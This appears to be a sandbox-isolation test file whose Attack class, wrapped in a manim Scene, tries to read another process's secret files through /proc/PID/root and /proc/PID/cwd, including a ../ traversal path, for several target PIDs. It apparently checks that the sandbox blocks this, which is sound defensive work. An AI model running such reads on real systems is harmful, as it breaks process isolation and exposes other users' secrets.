"""Goes through another process's root and working folder in /proc, which know no namespaces.

title: no way out through /proc/PID/root and cwd
kind: reading
canary: the secrets in the files
"""
import os
from manim import Scene

HOST = {}

class Attack(Scene):
    def construct(self):
        for pid in (HOST["pid"], os.getppid(), HOST["victim"], "self", 1):
            for way in ("root", "cwd", "cwd/../../../../.."):
                for path in HOST["secrets"].values():
                    try:
                        print(open(f"/proc/{pid}/{way}{path}").read())
                    except OSError as error:
                        print(error)
